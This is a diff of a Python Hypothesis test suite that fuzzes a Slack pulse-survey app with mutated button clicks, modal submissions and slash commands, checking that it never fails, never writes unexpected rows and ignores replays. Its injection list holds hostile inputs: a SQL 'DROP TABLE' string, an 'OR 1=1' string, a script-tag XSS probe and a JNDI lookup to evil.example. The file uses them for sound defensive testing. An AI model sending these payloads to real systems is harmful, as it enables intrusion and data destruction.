@@ -5,8 +5,6 @@ Never a 500, never a partial write, and a clear reply wherever Slack would show 
 from __future__ import annotations
 
 import json
-from collections.abc import AsyncIterator
-from dataclasses import dataclass
 from typing import Any
 from urllib.parse import parse_qs, urlencode
 
@@ -34,7 +32,7 @@ EXAMPLES = settings(
 )
 INJECTIONS = (
     "'; DROP TABLE survey_answer; --",
-    "\" OR 1=1 --",
+    '" OR 1=1 --',
     "<script>alert(1)</script>",
     "<!channel> <!here> <@U0AAAAAAAA> <#C0BBBBBBB|general>",
     "${jndi:ldap://evil.example/a}",
@@ -45,17 +43,32 @@ INJECTIONS = (
     "send",
     "optout",
 )
+
+
+class Huge(str):
+    """A very long string that reports itself briefly (Hypothesis prints failing inputs)."""
+
+    __slots__ = ()
+
+    def __repr__(self) -> str:
+        return f"Huge({len(self)} × {self[:1]!r})"
+
+
 TEXT = st.one_of(
     st.text(max_size=40),
     st.text(alphabet=st.characters(codec="utf-8"), min_size=1, max_size=300),
     st.sampled_from(INJECTIONS),
-    st.integers(min_value=1_001, max_value=120_000).map(lambda n: "Ä" * n),
+    st.builds(
+        lambda n, ch: Huge(ch * n), st.integers(min_value=1_001, max_value=50_000), st.sampled_from("aÄ<😀")
+    ),
 )
 SCALAR = st.one_of(
     st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False, allow_infinity=False), TEXT
 )
 JSON_VALUE = st.recursive(
-    SCALAR, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner, max_size=3), max_leaves=6
+    SCALAR,
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner, max_size=3),
+    max_leaves=6,
 )
 Path = tuple[str | int, ...]
 ACTION_PATHS: list[Path] = [
@@ -145,23 +158,27 @@ def _form(payload: dict[str, Any]) -> tuple[bytes, str]:
     return urlencode({"payload": json.dumps(payload)}).encode(), FORM
 
 
-@dataclass
 class Stage:
     """A round in progress and one invited person holding its pulse DM."""
 
-    runtime: Runtime
-    people: People
-    slack: FakeSlack
-    user: str
-    message: Message
-    seen: set[str]
+    def __init__(
+        self, runtime: Runtime, people: People, slack: FakeSlack, user: str, message: Message
+    ) -> None:
+        self.runtime, self.people, self.slack = runtime, people, slack
+        self.user, self.message = user, message
+        self.seen: set[str] = set()
+
+    def __repr__(self) -> str:
+        return f"Stage(user={self.user!r})"  # the whole DM would swamp Hypothesis' report
 
     async def counts(self) -> dict[str, int]:
         """Rows per table that a request could write."""
         found = {}
         async with self.runtime.db.session() as session:
             for model in (SurveyAnswer, RoundParticipation, PulseOptOut, SurveyRound, OutboxMessage):
-                found[model.__name__] = int((await session.exec(select(func.count()).select_from(model))).one())
+                found[model.__name__] = int(
+                    (await session.exec(select(func.count()).select_from(model))).one()
+                )
         return found
 
     def visible(self) -> int:
@@ -180,7 +197,9 @@ class Stage:
         async with self.runtime.db.session() as session:
             answers = list(await session.exec(select(SurveyAnswer)))
             marks = int((await session.exec(select(func.count()).select_from(RoundParticipation))).one())
-        assert marks == (1 if answers else 0) or (marks == 1 and not answers), (marks, len(answers))
+        # One person acts here: one mark at most, and never an answer without it (a mark without
+        # answers is fine: emptying the comment box withdraws a comment, not the participation).
+        assert marks <= 1 and (marks == 1 or not answers), (marks, len(answers))
         for answer in answers:
             question = bank.get(answer.question_id)
             assert question is not None
@@ -192,7 +211,7 @@ class Stage:
 
 
 @pytest.fixture
-async def stage(runtime: Runtime, people: People, slack: FakeSlack, workspace: Workspace) -> AsyncIterator[Stage]:
+async def stage(runtime: Runtime, people: People, slack: FakeSlack, workspace: Workspace) -> Stage:
     """An open round; the first employee who is neither coordinator nor supporter has their DM."""
     await people.command(workspace.coordinators()[0], "/pulse", "send")
     staff = {*workspace.coordinators(), *workspace.supporters()}
@@ -200,11 +219,11 @@ async def stage(runtime: Runtime, people: People, slack: FakeSlack, workspace: W
     message = await eventually(lambda: people.pulse_message(user), timeout=20)
     humans = [u.id for u in workspace.active_humans()]
     await eventually(lambda: all(people.pulse_message(u) for u in humans), timeout=20)
-    yield Stage(runtime, people, slack, user, message, set())
+    return Stage(runtime, people, slack, user, message)
 
 
-async def _send(stage: Stage, payload: dict[str, Any]) -> tuple[int, Any, bool]:
-    """Post a mutated payload; return status, body and whether Slack would show the person a reply."""
+async def _send(stage: Stage, payload: dict[str, Any]) -> tuple[int, Any]:
+    """Post a mutated payload and wait for the reply Slack would show; return status and body."""
     before = stage.visible()
     key = request_identity(payload)
     repeat = key is not None and key in stage.seen
@@ -213,24 +232,41 @@ async def _send(stage: Stage, payload: dict[str, Any]) -> tuple[int, Any, bool]:
     status, body = await stage.people.post(_form(payload))
     addressed = status == 200 and _slack_shaped(payload) and not repeat
     user = payload.get("user")
-    if addressed and isinstance(user, dict) and user.get("id") == stage.user:
+    in_form = isinstance(body, dict) and body.get("response_action") == "errors"
+    if addressed and not in_form and isinstance(user, dict) and user.get("id") == stage.user:
         # The reply comes after the ack; a person always learns what became of their gesture.
         await eventually(lambda: stage.visible() > before, timeout=3)
-    return status, body, addressed
+    if repeat:
+        assert not body, "a repeated delivery was acted on"
+    return status, body
+
+
+def _has(node: Any, *path: str | int, kind: type = str) -> bool:
+    for key in path:
+        in_dict = isinstance(node, dict) and isinstance(key, str) and key in node
+        in_list = isinstance(node, list) and isinstance(key, int) and key < len(node)
+        if not (in_dict or in_list):
+            return False
+        node = node[key]
+    return isinstance(node, kind)
 
 
 def _slack_shaped(payload: dict[str, Any]) -> bool:
-    """Whether Slack itself could have sent this: the part naming the gesture is intact (Slack
-    shows nothing for requests it never made, so only these owe the person a reply)."""
+    """Whether Slack itself could have sent this, fields of the right types where Slack always
+    sends them; Slack shows nothing for requests it never made, so only these owe a reply."""
+    if not _has(payload, "user", "id"):
+        return False
     if payload.get("type") == "view_submission":
-        view = payload.get("view")
-        return isinstance(view, dict) and isinstance(view.get("callback_id"), str)
-    actions = payload.get("actions")
+        return (
+            _has(payload, "view", "callback_id")
+            and _has(payload, "view", "private_metadata")
+            and _has(payload, "view", "state", "values", kind=dict)
+        )
     return (
-        isinstance(actions, list)
-        and len(actions) > 0
-        and isinstance(actions[0], dict)
-        and isinstance(actions[0].get("action_id"), str)
+        _has(payload, "actions", 0, "action_id")
+        and _has(payload, "actions", 0, "value")
+        and _has(payload, "container", "channel_id")
+        and _has(payload, "container", "message_ts")
     )
 
 
@@ -249,11 +285,15 @@ async def test_hostile_answer_clicks(stage: Stage, edits: list[tuple[str, Any, A
             message_ts=stage.message.ts,
             trigger_id=stage.slack.new_trigger_id(stage.user),
             response_url=stage.slack.new_response_url(),
-            message={"ts": stage.message.ts, "text": stage.message.text, "blocks": stage.message.blocks or []},
+            message={
+                "ts": stage.message.ts,
+                "text": stage.message.text,
+                "blocks": stage.message.blocks or [],
+            },
         )
     )
     before = await stage.counts()
-    status, _, _ = await _send(stage, _apply(base, edits))
+    status, _ = await _send(stage, _apply(base, edits))
     assert status < 500
     after = await stage.counts()
     # Nothing but an answer (and its participation mark) may ever be written by a click.
@@ -278,18 +318,24 @@ async def test_hostile_comment_button_clicks(stage: Stage, edits: list[tuple[str
             message_ts=stage.message.ts,
             trigger_id=stage.slack.new_trigger_id(stage.user),
             response_url=stage.slack.new_response_url(),
-            message={"ts": stage.message.ts, "text": stage.message.text, "blocks": stage.message.blocks or []},
+            message={
+                "ts": stage.message.ts,
+                "text": stage.message.text,
+                "blocks": stage.message.blocks or [],
+            },
         )
     )
     before = await stage.counts()
-    status, _, _ = await _send(stage, _apply(base, edits))
+    status, _ = await _send(stage, _apply(base, edits))
     assert status < 500
     assert await stage.counts() == before  # opening a modal writes nothing
 
 
 @given(edits=_mutations(VIEW_PATHS), text=TEXT)
 @EXAMPLES
-async def test_hostile_comment_submissions(stage: Stage, edits: list[tuple[str, Any, Any]], text: str) -> None:
+async def test_hostile_comment_submissions(
+    stage: Stage, edits: list[tuple[str, Any, Any]], text: str
+) -> None:
     button = stage.people.comment_button(stage.message)
     assert button is not None
     opened = len(stage.slack.opened_views())
@@ -305,7 +351,7 @@ async def test_hostile_comment_submissions(stage: Stage, edits: list[tuple[str, 
         )
     )
     before = await stage.counts()
-    status, body, addressed = await _send(stage, _apply(base, edits))
+    status, body = await _send(stage, _apply(base, edits))
     assert status < 500
     after = await stage.counts()
     assert {k: v for k, v in after.items() if k not in {"SurveyAnswer", "RoundParticipation"}} == {
@@ -331,21 +377,29 @@ async def test_hostile_slash_commands(
     fields = {
         k: v[0]
         for k, v in parse_qs(
-            slash_command(command, text, user_id=user or stage.user, trigger_id=trigger or stage.slack.new_trigger_id())[
-                0
-            ].decode(),
+            slash_command(
+                command, text, user_id=user or stage.user, trigger_id=trigger or stage.slack.new_trigger_id()
+            )[0].decode(),
             keep_blank_values=True,
         ).items()
     }
     fields["text"] = text  # parse_qs drops what it cannot decode; send exactly what was drawn
+    key = request_identity(fields)
+    repeat = key in stage.seen
+    stage.seen.add(str(key))
     before = await stage.counts()
     opened = len(stage.slack.calls_to("views.open"))
     status, body = await stage.people.post((urlencode(fields).encode(), FORM))
     assert status == 200
+    if repeat:
+        assert not body and await stage.counts() == before  # a replay is acked and ignored
+        return
     # Slack shows the ack text; an empty ack is only right when a modal opened instead.
-    assert (isinstance(body, str) and body.strip()) or isinstance(body, dict) or len(
-        stage.slack.calls_to("views.open")
-    ) > opened, repr(body)[:200]
+    assert (
+        (isinstance(body, str) and body.strip())
+        or isinstance(body, dict)
+        or len(stage.slack.calls_to("views.open")) > opened
+    ), repr(body)[:200]
     assert "Traceback" not in str(body)
     after = await stage.counts()
     assert after["SurveyRound"] == before["SurveyRound"] and after["SurveyAnswer"] == before["SurveyAnswer"]
